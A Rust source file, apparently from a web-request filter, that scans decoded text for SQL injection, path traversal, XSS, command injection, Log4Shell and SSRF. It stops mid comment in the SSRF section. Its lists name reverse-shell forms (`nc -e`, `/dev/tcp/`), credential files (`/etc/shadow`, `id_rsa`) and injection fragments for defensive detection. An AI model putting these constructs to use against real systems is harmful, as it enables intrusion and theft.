//! Signature matching over lower-case, decoded text.
//!
//! Cost model: [`classify`] makes one pass over the bytes and returns a bit set of the
//! "trigger" bytes present (`'`, `;`, `(`, `:`, `/`, …). Every signature is anchored on
//! such a byte and only runs when its byte is present, looking at the few bytes around
//! each occurrence (`word_before(':') == "javascript"`) instead of searching the whole
//! text once per needle. Look-aheads are bounded by [`LOOKAHEAD`], so hostile input
//! (`;select;select;…`, `$($($(…`) costs linear time. The only letter-anchored checks
//! are a single pass over word starts for SQL keywords.

use std::borrow::Cow;
use std::net::Ipv6Addr;

use super::Pattern;

pub(super) const C_QUOTE: u32 = 1 << 0;
pub(super) const C_BACKTICK: u32 = 1 << 1;
pub(super) const C_SEMI: u32 = 1 << 2;
pub(super) const C_PIPE: u32 = 1 << 3;
pub(super) const C_AMP: u32 = 1 << 4;
pub(super) const C_DOLLAR: u32 = 1 << 5;
pub(super) const C_LT: u32 = 1 << 6;
pub(super) const C_GT: u32 = 1 << 7;
pub(super) const C_LPAREN: u32 = 1 << 8;
pub(super) const C_AT: u32 = 1 << 9;
pub(super) const C_BSLASH: u32 = 1 << 10;
pub(super) const C_CRLF: u32 = 1 << 11;
pub(super) const C_HASH: u32 = 1 << 12;
pub(super) const C_LBRACE: u32 = 1 << 13;
pub(super) const C_EQ: u32 = 1 << 14;
pub(super) const C_COLON: u32 = 1 << 15;
pub(super) const C_DOT: u32 = 1 << 16;
pub(super) const C_SLASH: u32 = 1 << 17;
pub(super) const C_STAR: u32 = 1 << 18;
pub(super) const C_DASH: u32 = 1 << 19;
pub(super) const C_SPACE: u32 = 1 << 20;
pub(super) const C_UNDERSCORE: u32 = 1 << 21;
pub(super) const C_NUL: u32 = 1 << 22;
pub(super) const C_PERCENT: u32 = 1 << 23;
pub(super) const C_PLUS: u32 = 1 << 24;
pub(super) const C_UPPER: u32 = 1 << 25;

const fn build_classes() -> [u32; 256] {
    let mut t = [0u32; 256];
    t[b'\'' as usize] = C_QUOTE;
    t[b'"' as usize] = C_QUOTE;
    t[b'`' as usize] = C_BACKTICK;
    t[b';' as usize] = C_SEMI;
    t[b'|' as usize] = C_PIPE;
    t[b'&' as usize] = C_AMP;
    t[b'$' as usize] = C_DOLLAR;
    t[b'<' as usize] = C_LT;
    t[b'>' as usize] = C_GT;
    t[b'(' as usize] = C_LPAREN;
    t[b'@' as usize] = C_AT;
    t[b'\\' as usize] = C_BSLASH;
    t[b'\r' as usize] = C_CRLF;
    t[b'\n' as usize] = C_CRLF;
    t[b'#' as usize] = C_HASH;
    t[b'{' as usize] = C_LBRACE;
    t[b'=' as usize] = C_EQ;
    t[b':' as usize] = C_COLON;
    t[b'.' as usize] = C_DOT;
    t[b'/' as usize] = C_SLASH;
    t[b'*' as usize] = C_STAR;
    t[b'-' as usize] = C_DASH;
    t[b' ' as usize] = C_SPACE;
    t[b'\t' as usize] = C_SPACE;
    t[0x0b] = C_SPACE;
    t[0x0c] = C_SPACE;
    t[b'_' as usize] = C_UNDERSCORE;
    t[0] = C_NUL;
    t[b'%' as usize] = C_PERCENT;
    t[b'+' as usize] = C_PLUS;
    let mut c = b'A';
    while c <= b'Z' {
        t[c as usize] = C_UPPER;
        c += 1;
    }
    t
}

static CLASSES: [u32; 256] = build_classes();

/// The trigger bytes present in `b` (one pass, table look-up per byte).
pub(super) fn classify(b: &[u8]) -> u32 {
    b.iter().fold(0, |m, &c| {
        m | CLASSES.get(usize::from(c)).copied().unwrap_or(0)
    })
}

/// Which families run on a piece of text.
#[derive(Clone, Copy)]
pub(super) struct Families {
    pub sqli: bool,
    pub traversal: bool,
    pub xss: bool,
    /// Strong command-injection forms (`$(`, backticks, `/bin/sh`…).
    pub cmdi: bool,
    /// Full command-injection rules (separator + command). When false only the strong
    /// forms (`$(`, backticks, `/bin/sh`…) run.
    pub cmdi_full: bool,
    pub ssrf: bool,
    /// Header mode: the forms of traversal, command injection and SSRF that cannot
    /// occur in a benign header value (see [`HEADER`]).
    pub strict: bool,
}

/// Path, query and JSON fields.
pub(super) const ALL: Families = Families {
    sqli: true,
    traversal: true,
    xss: true,
    cmdi: true,
    cmdi_full: true,
    ssrf: true,
    strict: false,
};

/// Header values (`User-Agent`, `Referer`, forwarding and unknown headers): every
/// family, in its *strict* form, because URLs, `;` and odd punctuation are normal there:
///
/// - traversal: a `..` only counts as a whole path segment (`../`, `..\`, `..;/`, a
///   trailing `/..`), not `Loading.../` or `1..2/`; the sensitive-file names are the
///   same as elsewhere (no benign header names `/etc/passwd`). Browsers resolve dot
///   segments before sending a `Referer`, so a real one never contains `/../`.
/// - command injection: `;` separates product tokens in every browser User-Agent
///   (`(Linux; U; Android 4.0.3; id; GT-I9100)`, `(Linux; Android 9; CAT S61)`,
///   `(Linux; Android 13; SH-M24)`), so a command word after a separator counts only
///   when shell syntax follows it (a flag, a path, a URL, a variable, a quote, a
///   redirection) or when a bare probe (`| id`) ends the value.
/// - SSRF: only dangerous schemes with their slashes (`gopher://`, `file:/`,
///   `dict://`, `php://`; `jar:` only around an inner URL) and cloud-metadata hosts.
///   `http(s)://` URLs to ordinary hosts, which every `Referer` and `Origin` carries,
///   never match; `127.0.0.1` / `localhost` do not either (a local chat UI sends them).
pub(super) const HEADER: Families = Families {
    sqli: true,
    traversal: true,
    xss: true,
    cmdi: true,
    cmdi_full: true,
    ssrf: true,
    strict: true,
};

/// Headers with a fixed grammar (`Accept`, `Content-Type`, `Sec-*`…): only Log4Shell
/// lookups, which target whatever logs the header, not its parser.
pub(super) const LOOKUPS_ONLY: Families = Families {
    sqli: false,
    traversal: false,
    xss: false,
    cmdi: false,
    cmdi_full: false,
    ssrf: false,
    strict: false,
};

/// Runs the selected families over lower-case text `s` whose [`classify`] mask is `m`,
/// reporting each hit as `(pattern, detail)`.
pub(super) fn scan_text(
    s: &str,
    m: u32,
    fam: Families,
    hit: &mut dyn FnMut(Pattern, &'static str),
) {
    if m & C_DOLLAR != 0 && m & C_LBRACE != 0 {
        if let Some(d) = log4shell(s) {
            hit(Pattern::Log4Shell, d);
        }
    }
    if fam.sqli {
        if let Some(d) = sql_injection(s, m) {
            hit(Pattern::SqlInjection, d);
        }
    }
    if fam.traversal {
        if let Some(d) = traversal(s, m, fam.strict).or_else(|| sensitive_file(s, m)) {
            hit(Pattern::PathTraversal, d);
        }
    }
    if fam.xss {
        if let Some(d) = xss(s, m) {
            hit(Pattern::Xss, d);
        }
    }
    if fam.cmdi {
        if let Some(d) = command_injection(s, m, fam.cmdi_full, fam.strict) {
            hit(Pattern::CommandInjection, d);
        }
    }
    if fam.ssrf {
        if let Some(d) = ssrf(s, m, fam.strict) {
            hit(Pattern::SsrfScheme, d);
        }
    }
}

// === helpers ===

/// How far a statement or sub-shell is looked into after its trigger.
pub(super) const LOOKAHEAD: usize = 256;
/// How far back a word before an anchor is looked for.
const LOOKBEHIND: usize = 32;

/// The longest prefix of `s` of at most `n` bytes, cut on a character boundary.
pub(super) fn head(s: &str, n: usize) -> &str {
    if s.len() <= n {
        return s;
    }
    let mut end = n;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    s.get(..end).unwrap_or("")
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Text from byte `i` on. `i` is always the index of an ASCII anchor byte, hence a
/// character boundary.
fn from(s: &str, i: usize) -> &str {
    s.get(i..).unwrap_or("")
}

/// Whether the text before byte `i` ends with `suffix`.
fn ends_before(s: &str, i: usize, suffix: &str) -> bool {
    s.as_bytes()
        .get(..i)
        .is_some_and(|b| b.ends_with(suffix.as_bytes()))
}

/// The word (`[a-z0-9_]+`, at most [`LOOKBEHIND`] bytes) that ends right before byte
/// `i`, after skipping spaces when `skip_spaces`. Walks back byte by byte from the
/// anchor: word bytes are ASCII, so both ends are character boundaries.
fn word_before(s: &str, i: usize, skip_spaces: bool) -> &str {
    let b = s.as_bytes();
    let mut end = i.min(b.len());
    if skip_spaces {
        while end > 0 && b.get(end - 1) == Some(&b' ') {
            end -= 1;
        }
    }
    let mut start = end;
    while start > 0
        && end - start < LOOKBEHIND
        && b.get(start - 1).is_some_and(|c| is_word_byte(*c))
    {
        start -= 1;
    }
    s.get(start..end).unwrap_or("")
}

/// Positions of an ASCII anchor byte.
///
/// A plain byte loop: `str::match_indices(char)` goes through the generic
/// `CharSearcher` and cost a third of a clean browser request's inspection.
fn anchors(s: &str, c: char) -> impl Iterator<Item = usize> + '_ {
    let c = u8::try_from(c).unwrap_or(0);
    s.bytes()
        .enumerate()
        .filter(move |(_, b)| *b == c && c != 0)
        .map(|(i, _)| i)
}

fn starts_with_word(s: &str, word: &str) -> bool {
    s.strip_prefix(word)
        .is_some_and(|r| r.bytes().next().is_none_or(|c| !is_word_byte(c)))
}

fn has_word(s: &str, word: &str) -> bool {
    let b = s.as_bytes();
    s.match_indices(word).any(|(i, _)| {
        let before_ok = i == 0 || b.get(i - 1).is_none_or(|c| !is_word_byte(*c));
        let after_ok = b.get(i + word.len()).is_none_or(|c| !is_word_byte(*c));
        before_ok && after_ok
    })
}

/// Byte offsets where a word starts (a word byte preceded by a non-word byte).
fn word_starts(s: &str) -> impl Iterator<Item = (usize, u8)> + '_ {
    let b = s.as_bytes();
    b.iter().enumerate().filter_map(move |(i, &c)| {
        let start = is_word_byte(c) && (i == 0 || b.get(i - 1).is_none_or(|p| !is_word_byte(*p)));
        start.then_some((i, c))
    })
}

// === log4shell ===

fn log4shell(s: &str) -> Option<&'static str> {
    const OBFUSCATIONS: &[&str] = &[
        "${lower:",
        "${upper:",
        "${::-",
        "${env:",
        "${sys:",
        "${date:",
        "${base64:",
        "${main:",
        "${java:",
        "${ctx:",
        "${k8s:",
        "${docker:",
        "${spring:",
        "${web:",
        "${bundle:",
        "${jvmrunargs:",
    ];
    if !s.contains("${") {
        return None;
    }
    if s.contains("${jndi:") {
        return Some("jndi");
    }
    if s.contains("jndi") || OBFUSCATIONS.iter().any(|o| s.contains(o)) {
        return Some("obfuscated_lookup");
    }
    None
}

// === path traversal ===

fn traversal(s: &str, m: u32, strict: bool) -> Option<&'static str> {
    if m & C_DOT == 0 || !s.contains("..") {
        return None;
    }
    if strict {
        return traversal_segment(s);
    }
    if s.contains("../") || s.contains("..\\") {
        return Some("dot_dot_slash");
    }
    if s.contains("..;/") || s.contains("..;\\") {
        return Some("dot_dot_semicolon");
    }
    if s == ".." || s.ends_with("/..") || s.ends_with("\\..") {
        return Some("dot_dot_segment");
    }
    None
}

/// Header form of [`traversal`]: a `..` that is a whole path segment, i.e. not preceded
/// by a word byte, `-` or another `.` (`Loading.../`, `v1..2/`, `a-../`) and followed by
/// `/`, `\`, `;/`, or ending the text after a separator.
fn traversal_segment(s: &str) -> Option<&'static str> {
    let b = s.as_bytes();
    for (i, _) in s.match_indices("..") {
        let before = i.checked_sub(1).and_then(|j| b.get(j)).copied();
        if before.is_some_and(|c| is_word_byte(c) || c == b'.' || c == b'-') {
            continue;
        }
        let rest = s.get(i + 2..).unwrap_or("");
        if rest.starts_with('/') || rest.starts_with('\\') {
            return Some("dot_dot_slash");
        }
        if rest.starts_with(";/") || rest.starts_with(";\\") {
            return Some("dot_dot_semicolon");
        }
        if rest.is_empty() && matches!(before, Some(b'/' | b'\\')) {
            return Some("dot_dot_segment");
        }
    }
    None
}

/// Well-known sensitive files, anchored on `/`, `\`, `.` and `_`.
pub(super) fn sensitive_file(s: &str, m: u32) -> Option<&'static str> {
    if m & (C_SLASH | C_BSLASH) != 0 {
        for (sep, bit) in [('/', C_SLASH), ('\\', C_BSLASH)] {
            if m & bit == 0 {
                continue;
            }
            for i in anchors(s, sep) {
                let rest = s.get(i + 1..).unwrap_or("");
                for (needle, detail) in [
                    ("etc/passwd", "etc_passwd"),
                    ("etc/shadow", "etc_shadow"),
                    ("proc/self/", "proc_self"),
                    ("system32", "system32"),
                    ("windows/win.ini", "win_ini"),
                ] {
                    if rest.starts_with(needle) {
                        return Some(detail);
                    }
                }
                if rest.starts_with("windows") && ends_before(s, i, "c:") {
                    return Some("c_windows");
                }
                if ends_before(s, i, "web-inf") {
                    return Some("web_inf");
                }
            }
        }
    }
    // Substring searches (vectorised in std) rather than a loop over every `.`: a
    // browser User-Agent has a dozen dots and no `.ini`.
    if m & C_DOT != 0 {
        if s.contains("win.ini") || s.contains("boot.ini") {
            return Some("win_ini");
        }
        if s.contains(".htpasswd") {
            return Some("htpasswd");
        }
    }
    if m & C_UNDERSCORE != 0 && s.contains("id_rsa") {
        return Some("ssh_key");
    }
    None
}

// === SQL injection ===

/// `s` with SQL comments and whitespace runs turned into single spaces.
fn sql_view(s: &str, m: u32) -> Cow<'_, str> {
    let needs = (m & C_STAR != 0 && s.contains("/*"))
        || s.bytes()
            .any(|b| matches!(b, b'\t' | b'\n' | b'\r' | 0x0b | 0x0c))
        || s.contains("  ");
    if !needs {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while !rest.is_empty() {
        if let Some(after) = rest.strip_prefix("/*") {
            // `/*!50000union*/` (MySQL executable comment): keep the content.
            match after.strip_prefix('!') {
                Some(a) => rest = a.trim_start_matches(|c: char| c.is_ascii_digit()),
                None => {
                    rest = after
                        .find("*/")
                        .and_then(|e| after.get(e + 2..))
                        .unwrap_or("")
                }
            }
            if !out.ends_with(' ') {
                out.push(' ');
            }
            continue;
        }
        if let Some(a) = rest.strip_prefix("*/") {
            if !out.ends_with(' ') {
                out.push(' ');
            }
            rest = a;
            continue;
        }
        let mut chars = rest.chars();
        let Some(c) = chars.next() else { break };
        let c = if c.is_ascii_whitespace() || c == '\u{0b}' {
            ' '
        } else {
            c
        };
        if !(c == ' ' && out.ends_with(' ')) {
            out.push(c);
        }
        rest = chars.as_str();
    }
    Cow::Owned(out)
}

fn sql_injection(s: &str, m: u32) -> Option<&'static str> {
    let v = sql_view(s, m);
    let v = v.as_ref();
    // One pass over word starts for keyword sequences.
    let comparisons = m & (C_EQ | C_LT | C_GT) != 0;
    for (i, c) in word_starts(v) {
        let rest = v.get(i..).unwrap_or("");
        let after = |n: usize| rest.get(n..).unwrap_or("").trim_start();
        let detail = match c {
            b'u' if starts_with_word(rest, "union") => {
                union_select(after(5)).then_some("union_select")
            }
            b'u' if rest.starts_with("utl_inaddr") => Some("out_of_band"),
            b'w' if starts_with_word(rest, "waitfor") => (starts_with_word(after(7), "delay")
                || starts_with_word(after(7), "time"))
            .then_some("sleep"),
            b'i' if starts_with_word(rest, "into") => (starts_with_word(after(4), "outfile")
                || starts_with_word(after(4), "dumpfile"))
            .then_some("file_access"),
            b'i' if rest.starts_with("information_schema") => Some("schema_probe"),
            b'x' if rest.starts_with("xp_cmdshell") => Some("xp_cmdshell"),
            b'd' if rest.starts_with("dbms_pipe") => Some("sleep"),
            b'o' if comparisons && starts_with_word(rest, "or") => {
                numeric_tautology(after(2)).then_some("tautology")
            }
            b'a' if comparisons && starts_with_word(rest, "and") => {
                numeric_tautology(after(3)).then_some("tautology")
            }
            b'x' if comparisons && starts_with_word(rest, "xor") => {
                numeric_tautology(after(3)).then_some("tautology")
            }
            _ => None,
        };
        if detail.is_some() {
            return detail;
        }
    }
    // Blind / error-based functions: the word before `(`.
    if m & C_LPAREN != 0 {
        for i in anchors(v, '(') {
            match word_before(v, i, true) {
                "sleep" | "pg_sleep" | "benchmark" => return Some("sleep"),
                "extractvalue" | "updatexml" => return Some("error_based"),
                "load_file" => return Some("file_access"),
                _ => {}
            }
        }
    }
    if m & C_AT != 0 && v.contains("@@version") {
        return Some("schema_probe");
    }
    // Stacked statement: `;` then a statement.
    if m & C_SEMI != 0 {
        for i in anchors(v, ';') {
            if sql_statement(v.get(i + 1..).unwrap_or("")) {
                return Some("stacked_query");
            }
        }
    }
    // Quote-based: tautology or comment after a quote.
    if m & (C_QUOTE | C_BACKTICK) != 0 {
        for (i, _) in v.match_indices(['\'', '"', '`']) {
            let rest = head(v.get(i + 1..).unwrap_or(""), LOOKAHEAD);
            let r = rest.trim_start_matches([' ', ')']);
            if r.starts_with("--") || r.starts_with('#') || r.starts_with("/*") {
                return Some("quote_comment");
            }
            // `1' order by 10--`: column-count probing right after a closing quote.
            if starts_with_word(r, "order") {
                let by = r.get(5..).unwrap_or("").trim_start();
                if starts_with_word(by, "by")
                    && by
                        .get(2..)
                        .unwrap_or("")
                        .trim_start()
                        .bytes()
                        .next()
                        .is_some_and(|b| b.is_ascii_digit())
                {
                    return Some("order_by_probe");
                }
            }
            if let Some(after) = boolean_operator(r) {
                if comparison_follows(after) {
                    return Some("tautology");
                }
            }
        }
    }
    None
}

/// After `union`: optional `all`/`distinct`, then `select`.
fn union_select(rest: &str) -> bool {
    let rest = head(rest, LOOKAHEAD).trim_start_matches([' ', '(']);
    let rest = rest
        .strip_prefix("all")
        .or_else(|| rest.strip_prefix("distinct"))
        .unwrap_or(rest)
        .trim_start_matches([' ', '(']);
    starts_with_word(rest, "select")
}

/// After a quote: `or` / `and` / `xor` / `||` / `&&`; returns the text after it.
fn boolean_operator(r: &str) -> Option<&str> {
    for op in ["or", "and", "xor"] {
        if starts_with_word(r, op) {
            return r.get(op.len()..);
        }
    }
    r.strip_prefix("||").or_else(|| r.strip_prefix("&&"))
}

/// A comparison soon after a boolean operator: `1=1`, `'a'='a`, `x like y`, `2>1`,
/// `true`, `sleep(`.
fn comparison_follows(after: &str) -> bool {
    let w = head(after, 40).trim_start();
    if w.contains(['=', '<', '>']) {
        return true;
    }
    if [
        " like ",
        " is ",
        " in(",
        " in (",
        " between ",
        " regexp ",
        " rlike ",
    ]
    .iter()
    .any(|k| w.contains(k))
    {
        return true;
    }
    starts_with_word(w, "true")
        || starts_with_word(w, "not")
        || w.starts_with("sleep(")
        || w.bytes().next().is_some_and(|b| b.is_ascii_digit()) && {
            let after_num = w
                .trim_start_matches(|c: char| c.is_ascii_digit())
                .trim_start();
            after_num.is_empty()
                || after_num.starts_with("--")
                || after_num.starts_with('#')
                || after_num.starts_with(';')
        }
}

/// `N=N`, `N>M`, `'a'='a'` right at the start of `r`.
fn numeric_tautology(r: &str) -> bool {
    let r = head(r, 64);
    let (lhs, rest) = operand(r);
    let Some(lhs) = lhs else { return false };
    let rest = rest.trim_start();
    let (op, rest) = if let Some(x) = rest.strip_prefix(">=") {
        (">=", x)
    } else if let Some(x) = rest.strip_prefix("<=") {
        ("<=", x)
    } else if let Some(x) = rest.strip_prefix("<>") {
        ("<>", x)
    } else if let Some(x) = rest.strip_prefix("!=") {
        ("!=", x)
    } else if let Some(x) = rest.strip_prefix('=') {
        ("=", x)
    } else if let Some(x) = rest.strip_prefix('>') {
        (">", x)
    } else if let Some(x) = rest.strip_prefix('<') {
        ("<", x)
    } else {
        return false;
    };
    let (rhs, _) = operand(rest.trim_start());
    let Some(rhs) = rhs else { return false };
    match op {
        "=" | ">=" | "<=" => lhs == rhs && !lhs.is_empty(),
        _ => {
            let (Ok(a), Ok(b)) = (lhs.parse::<i64>(), rhs.parse::<i64>()) else {
                return false;
            };
            match op {
                ">" => a > b,
                "<" => a < b,
                _ => a != b,
            }
        }
    }
}

/// A number or a quoted string at the start of `s`.
fn operand(s: &str) -> (Option<&str>, &str) {
    if let Some(q) = s.strip_prefix(['\'', '"']) {
        return match q.find(['\'', '"']) {
            Some(end) => (q.get(..end), q.get(end + 1..).unwrap_or("")),
            None => (Some(q), ""),
        };
    }
    let end = s.find(|c: char| !c.is_ascii_digit()).unwrap_or(s.len());
    if end == 0 {
        return (None, s);
    }
    (s.get(..end), s.get(end..).unwrap_or(""))
}

/// Whether `s` starts (after spaces) with a recognisable SQL statement.
fn sql_statement(s: &str) -> bool {
    let s = head(s.trim_start(), LOOKAHEAD);
    let next_word_in = |rest: &str, words: &[&str]| {
        let rest = rest.trim_start();
        words.iter().any(|w| starts_with_word(rest, w))
    };
    let Some(first) = s
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .next()
    else {
        return false;
    };
    let rest = s.get(first.len()..).unwrap_or("");
    match first {
        "drop" | "alter" | "create" => next_word_in(
            rest,
            &[
                "table",
                "database",
                "schema",
                "user",
                "view",
                "procedure",
                "function",
                "index",
            ],
        ),
        "truncate" => next_word_in(rest, &["table"]),
        "delete" => next_word_in(rest, &["from"]),
        "insert" => next_word_in(rest, &["into"]),
        "update" => has_word(rest, "set"),
        "select" => {
            has_word(rest, "from")
                || rest.contains("@@")
                || rest.trim_start().starts_with('*')
                || rest.contains('(')
        }
        "exec" | "execute" => {
            let r = rest.trim_start();
            r.starts_with("xp_")
                || r.starts_with("sp_")
                || r.starts_with("master.")
                || r.starts_with('(')
        }
        "shutdown" => {
            let r = rest.trim_start();
            r.is_empty() || r.starts_with("--") || r.starts_with(';') || r.starts_with('#')
        }
        "declare" => rest.trim_start().starts_with('@'),
        "waitfor" => next_word_in(rest, &["delay", "time"]),
        _ => false,
    }
}

// === XSS ===

fn xss(s: &str, m: u32) -> Option<&'static str> {
    if m & C_LT != 0 {
        for (tag, detail) in [
            ("<script", "script_tag"),
            ("</script", "script_tag"),
            ("<iframe", "iframe"),
            ("<object", "object_tag"),
            ("<embed", "object_tag"),
        ] {
            if s.contains(tag) {
                return Some(detail);
            }
        }
    }
    if m & C_COLON != 0 {
        for i in anchors(s, ':') {
            match word_before(s, i, false) {
                "javascript" | "vbscript" => return Some("script_url"),
                // `data:text/html,<script>…` / `data:image/svg+xml;base64,…`: a
                // document or script smuggled in a URL; no API field or header
                // carries one.
                "data"
                    if [
                        ":text/html",
                        ":image/svg+xml",
                        ":text/javascript",
                        ":application/javascript",
                        ":application/x-javascript",
                    ]
                    .iter()
                    .any(|t| from(s, i).starts_with(t)) =>
                {
                    return Some("data_url")
                }
                _ => {}
            }
        }
    }
    if m & C_DOT != 0 {
        for i in anchors(s, '.') {
            if from(s, i).starts_with(".cookie") && ends_before(s, i, "document") {
                return Some("script_api");
            }
        }
    }
    if m & C_LPAREN != 0 {
        for i in anchors(s, '(') {
            match word_before(s, i, false) {
                "fromcharcode" => return Some("script_api"),
                "alert" | "prompt" | "confirm" if m & (C_LT | C_QUOTE | C_SEMI) != 0 => {
                    return Some("script_api")
                }
                _ => {}
            }
        }
    }
    if m & C_EQ != 0 {
        for i in anchors(s, '=') {
            if matches!(
                word_before(s, i, true),
                "onerror"
                    | "onload"
                    | "onmouseover"
                    | "onmouseenter"
                    | "onfocus"
                    | "onblur"
                    | "onclick"
                    | "ontoggle"
                    | "onbegin"
                    | "onanimationstart"
                    | "onpointerover"
                    | "onstart"
                    | "onpageshow"
            ) {
                return Some("event_handler");
            }
        }
    }
    None
}

// === command injection ===

/// Shell commands an injected separator is followed by.
fn is_command(word: &str) -> bool {
    matches!(
        word,
        "cat"
            | "id"
            | "ls"
            | "wget"
            | "curl"
            | "nc"
            | "ncat"
            | "netcat"
            | "bash"
            | "sh"
            | "zsh"
            | "dash"
            | "ksh"
            | "whoami"
            | "uname"
            | "ping"
            | "rm"
            | "chmod"
            | "chown"
            | "python"
            | "python3"
            | "perl"
            | "ruby"
            | "php"
            | "powershell"
            | "pwsh"
            | "cmd"
            | "sleep"
            | "nslookup"
            | "dig"
            | "telnet"
            | "busybox"
            | "base64"
            | "eval"
            | "exec"
            | "kill"
            | "ifconfig"
            | "ipconfig"
            | "certutil"
            | "bitsadmin"
            | "tftp"
            | "echo"
    )
}

/// Commands that are never ordinary words: a bare `|id` or `;whoami` is a probe.
fn is_probe(word: &str) -> bool {
    matches!(
        word,
        "id" | "whoami" | "uname" | "ifconfig" | "ipconfig" | "ls" | "pwd"
    )
}

/// The command word at the start of `s` (after spaces, `{` and an optional
/// `/bin/`-like directory), and what follows it.
fn command_word(s: &str) -> Option<(&str, &str)> {
    let s = head(s, LOOKAHEAD).trim_start_matches([' ', '\t', '{']);
    let s = s
        .strip_prefix("/usr/local/bin/")
        .or_else(|| s.strip_prefix("/usr/bin/"))
        .or_else(|| s.strip_prefix("/bin/"))
        .unwrap_or(s);
    let end = s
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(s.len());
    let (word, rest) = (s.get(..end).unwrap_or(""), s.get(end..).unwrap_or(""));
    is_command(word).then_some((word, rest))
}

/// Whether `s` starts with a known command followed by a boundary (inside `$(…)` or
/// backticks, where any command is suspicious).
fn command_at(s: &str) -> bool {
    command_word(s).is_some_and(|(_, rest)| {
        rest.chars().next().is_none_or(|c| {
            matches!(
                c,
                ' ' | '\t'
                    | ';'
                    | '|'
                    | '&'
                    | '<'
                    | '>'
                    | '$'
                    | '`'
                    | ')'
                    | ','
                    | '\n'
                    | '\r'
                    | '}'
            )
        })
    })
}

/// After a separator (`;`, `|`, `&&`, newline): a command that is used like one. Many
/// commands are also words (`cat`, `echo`, `python`), and `dog|cat` or
/// `python|ruby|perl` are ordinary filter values, so a command needs an argument or a
/// following shell operator, except the pure probes of [`is_probe`].
fn separator_command(s: &str) -> bool {
    let Some((word, rest)) = command_word(s) else {
        return false;
    };
    match rest.chars().next() {
        None | Some('|') => is_probe(word),
        Some(' ' | '\t') => !rest.trim_start().is_empty() || is_probe(word),
        Some(c) => matches!(
            c,
            ';' | '&' | '<' | '>' | '$' | '`' | ')' | ',' | '\n' | '\r' | '}'
        ),
    }
}

/// Header form of [`separator_command`] (see [`HEADER`]): the command must be followed
/// by shell syntax — after a space, a flag (`-c`), a path (`/etc/passwd`, `./x`,
/// `~/.ssh`), a URL (`http://…`), a variable, a quote or an operator; without a space,
/// a redirection (`cat</etc/passwd`) — or be a bare probe that ends the value
/// (`| id`). `; id; GT-I9100`, `; CAT S61`, `; SH-M24`, `curl/8.5.0` stay clean.
fn separator_command_strict(s: &str) -> bool {
    let Some((word, rest)) = command_word(s) else {
        return false;
    };
    let arg = rest.trim_start_matches([' ', '\t']);
    if arg.trim_end().is_empty() {
        return is_probe(word);
    }
    if arg.len() == rest.len() {
        // `cat</etc/passwd`; `{cat,/etc/passwd}` (brace expansion).
        return rest.starts_with(['<', '>'])
            || (rest.starts_with(',') && s.trim_start().starts_with('{'));
    }
    arg.starts_with([
        '-', '/', '\\', '.', '~', '$', '`', '\'', '"', '<', '>', '|', '&', ';',
    ]) || ["http://", "https://", "ftp://", "tftp://"]
        .iter()
        .any(|p| arg.starts_with(p))
}

fn command_injection(s: &str, m: u32, full: bool, strict: bool) -> Option<&'static str> {
    if m & C_DOLLAR != 0 {
        if s.contains("${ifs}") || s.contains("$ifs$") {
            return Some("ifs");
        }
        for i in anchors(s, '$') {
            let Some(rest) = s.get(i + 1..).and_then(|r| r.strip_prefix('(')) else {
                continue;
            };
            let rest = head(rest, LOOKAHEAD);
            if command_at(rest)
                || (rest.contains(')')
                    && rest.bytes().next().is_some_and(|b| b.is_ascii_alphabetic()))
            {
                return Some("subshell");
            }
        }
    }
    if m & C_SLASH != 0 {
        for i in anchors(s, '/') {
            let rest = from(s, i);
            if rest.starts_with("/bin/sh")
                || rest.starts_with("/bin/bash")
                || rest.starts_with("/dev/tcp/")
            {
                return Some("shell");
            }
            if rest.starts_with("/c") && ends_before(s, i, "cmd ") {
                return Some("shell");
            }
        }
    }
    if m & C_DOT != 0 {
        for i in anchors(s, '.') {
            if from(s, i).starts_with(".exe") && word_before(s, i, false) == "cmd" {
                return Some("shell");
            }
        }
    }
    if m & C_DASH != 0 {
        for i in anchors(s, '-') {
            if !ends_before(s, i, " ") {
                continue;
            }
            match word_before(s, i, true) {
                "powershell" | "pwsh" => return Some("shell"),
                "nc" | "ncat" if from(s, i).starts_with("-e") => return Some("shell"),
                _ => {}
            }
        }
    }
    if m & C_BACKTICK != 0 {
        let mut parts = s.split('`');
        parts.next();
        // Even-numbered parts (0, 2, …) after the first backtick are inside backticks.
        for (n, part) in parts.enumerate() {
            if n % 2 == 0 && command_at(part) {
                return Some("backticks");
            }
        }
    }
    if !full || m & (C_SEMI | C_PIPE | C_CRLF | C_AMP) == 0 {
        return None;
    }
    let b = s.as_bytes();
    // A byte loop: a multi-char pattern searcher decodes every character, and this
    // runs on every header value.
    let separators = b
        .iter()
        .enumerate()
        .filter(|(_, c)| matches!(c, b';' | b'|' | b'\n' | b'\r' | b'&'));
    for (i, &c) in separators {
        // Cheap reject: a command (after spaces, `|` or `{`) starts with a letter or `/`.
        let next = b
            .get(i + 1..)
            .unwrap_or(&[])
            .iter()
            .take(LOOKAHEAD)
            .find(|n| !matches!(n, b' ' | b'\t' | b'|' | b'&' | b'{'));
        if !next.is_some_and(|n| n.is_ascii_lowercase() || *n == b'/') {
            continue;
        }
        let rest = match c {
            b'&' if b.get(i + 1) == Some(&b'&') => s.get(i + 2..).unwrap_or(""),
            // `& ping -n 5 …` (cmd.exe chaining). A lone `&` separates query
            // parameters and appears in prose (`rock & roll`, `salt & echo`), so it
            // takes a space and the strict argument rule everywhere.
            b'&' if b.get(i + 1) == Some(&b' ') => {
                if separator_command_strict(s.get(i + 1..).unwrap_or("")) {
                    return Some("separator_command");
                }
                continue;
            }
            b'&' => continue,
            _ => s.get(i + 1..).unwrap_or(""),
        };
        let rest = rest.strip_prefix('|').unwrap_or(rest);
        let hit = if strict {
            separator_command_strict(rest)
        } else {
            separator_command(rest)
        };
        if hit {
            return Some("separator_command");
        }
    }
    None
}

// === SSRF / LFI ===

/// SSRF/LFI: dangerous URL schemes and cloud-metadata endpoints.
///
/// A scheme counts with `:/` after it as well as `://`, because a path's slash runs are
/// collapsed before matching (`/v1/files/gopher://h` becomes `…/gopher:/h`). In header
/// mode (`strict`), `jar:` needs an inner URL (`jar:http…`, `jar:file:`) and `netdoc:`
/// its slash, so product tokens such as `foo jar:1` stay clean.
///
/// Metadata endpoints: the literal `169.254.169.254` and `metadata.google.internal`
/// anywhere, and, as the host of any URL (`scheme://[user@]host[:port]`), every
